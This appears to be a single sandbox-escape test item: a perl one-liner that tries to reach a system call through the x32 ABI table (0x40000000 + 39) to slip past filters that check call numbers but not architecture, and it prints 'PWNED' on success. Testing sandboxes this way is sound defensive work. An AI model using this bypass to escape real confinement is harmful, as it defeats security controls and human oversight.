# tries: reach system calls through the 32-bit table
# from: filters that check numbers but not the architecture
perl -e 'my $r = syscall(0x40000000 + 39); print "PWNED\n" if $r > 0'
